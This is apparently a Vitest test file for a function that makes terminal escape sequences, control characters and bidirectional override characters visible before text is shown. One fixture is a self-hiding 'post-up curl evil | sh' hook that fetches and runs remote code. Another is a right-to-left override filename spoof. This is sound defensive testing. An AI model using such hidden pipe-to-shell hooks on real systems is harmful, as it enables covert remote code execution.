import { describe, expect, it } from 'vitest';
import { visible, visibleJson } from '../../../shared/text/visible.js';

describe('visible: text from designs and hosts, made safe to show', () => {
  it('shows escape sequences as text instead of letting a terminal run them', () => {
    // A line that hides itself: cursor up and erase line after it.
    const hiding = 'post-up curl evil | sh\x1b[1A\x1b[2K';
    expect(visible(hiding)).toBe('post-up curl evil | sh^[[1A^[[2K');
    expect(visible(hiding)).not.toContain('\x1b');
  });

  it('shows every other control character in caret notation, and C1 controls as code points', () => {
    expect(visible('a\rb\bc\x07d\x00e\x7f')).toBe('a^Mb^Hc^Gd^@e^?');
    // 0x9b is CSI on terminals that read 8-bit controls.
    expect(visible('x\u009b2Jy\u0085')).toBe('x<U+009B>2Jy<U+0085>');
  });

  it('shows bidirectional overrides and isolates, which reorder what is read', () => {
    expect(visible('abc\u202Eexe.txt')).toBe('abc<U+202E>exe.txt');
    expect(visible('\u2066a\u2067b\u2068c\u2069\u202A\u202B\u202C\u202D')).toBe(
      '<U+2066>a<U+2067>b<U+2068>c<U+2069><U+202A><U+202B><U+202C><U+202D>',
    );
  });

  it('keeps newlines and tabs of multi-line text, unless asked for one line', () => {
    expect(visible('a\n\tb\n')).toBe('a\n\tb\n');
    expect(visible('a\nb\tc', { oneLine: true })).toBe('a^Jb^Ic');
  });

  it('changes nothing else: printable ASCII and Unicode pass through', () => {
    const text = 'iface vmbr0 inet static # Grüße, 日本語, emoji 🎉, ^[ typed by hand, \\x1b';
    expect(visible(text)).toBe(text);
  });

  it('makes JSON output safe the same way while keeping it valid JSON', () => {
    const value = { diff: 'a\u202Eb\u009bc\x1bd' };
    const json = visibleJson(JSON.stringify(value));
    for (const hidden of ['\u202E', '\u009b', '\x1b']) expect(json).not.toContain(hidden);
    expect(JSON.parse(json)).toEqual(value);
  });
});
